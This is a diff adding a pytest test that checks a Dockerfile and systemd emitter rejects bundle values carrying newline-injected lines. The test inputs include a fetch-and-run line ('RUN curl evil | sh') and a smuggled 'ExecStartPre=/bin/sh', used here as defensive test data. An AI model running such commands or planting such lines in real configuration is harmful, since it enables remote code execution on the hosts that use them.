@@ -97,6 +97,15 @@ def test_a_dockerfile_has_the_devices_image_and_an_exec_command(bundle):
     assert "--runtime nvidia" in (jetson / "README.txt").read_text()
 
 
+@pytest.mark.parametrize("kind", ["systemd", "dockerfile"])
+def test_words_of_a_device_or_bundle_write_no_line_of_their_own(bundle, kind):
+    hostile = "1.22\nRUN curl evil | sh"
+    with pytest.raises(InputError, match="no name of an engine or version"):
+        emit(record(bundle, onnxruntime=hostile), bundle, kind)
+    with pytest.raises(InputError, match="no name of an engine or version"):
+        emit(record(bundle, chosen="a\nExecStartPre=/bin/sh"), bundle, kind)
+
+
 def test_what_cannot_be_emitted_is_one_line(bundle):
     with pytest.raises(InputError, match="did you mean systemd"):
         emit(record(bundle), bundle, "system")
